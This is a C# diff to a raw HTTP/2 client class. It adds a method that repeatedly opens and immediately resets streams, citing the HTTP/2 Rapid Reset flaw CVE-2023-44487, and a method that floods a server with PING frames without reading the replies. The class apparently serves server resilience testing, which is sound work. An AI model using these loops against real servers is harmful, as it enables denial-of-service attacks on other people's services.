@@ -14,6 +14,7 @@ public sealed class ClientHttp2Brut : IDisposable
     private const byte Headers = 1;
     private const byte RstStream = 3;
     private const byte Settings = 4;
+    private const byte Ping = 6;
     private const byte WindowUpdate = 8;
     private const byte EndStream = 1;
     private const byte EndHeaders = 4;
@@ -56,6 +57,24 @@ public sealed class ClientHttp2Brut : IDisposable
         var increment = new byte[4];
         BinaryPrimitives.WriteInt32BigEndian(increment, octets);
         return EcrireAsync(Trame(WindowUpdate, 0, flot, increment));
+    }
+
+    /// <summary>Gives up streams that it has just opened (CVE-2023-44487), that many times.</summary>
+    public async Task OuvrirEtRenoncerAsync(string chemin, int fois)
+    {
+        for (var n = 0; n < fois; n++)
+        {
+            await EcrireAsync(Trame(RstStream, 0, await DemanderAsync(chemin), [0, 0, 0, 8])); // CANCEL
+        }
+    }
+
+    /// <summary>Asks whether the server is there, that many times, and does not read its answers.</summary>
+    public async Task InsisterAsync(int fois)
+    {
+        for (var n = 0; n < fois; n++)
+        {
+            await EcrireAsync(Trame(Ping, 0, 0, new byte[8]));
+        }
     }
 
     /// <summary>Waits until that many streams had the head of their answer; what the server says besides is passed over.</summary>
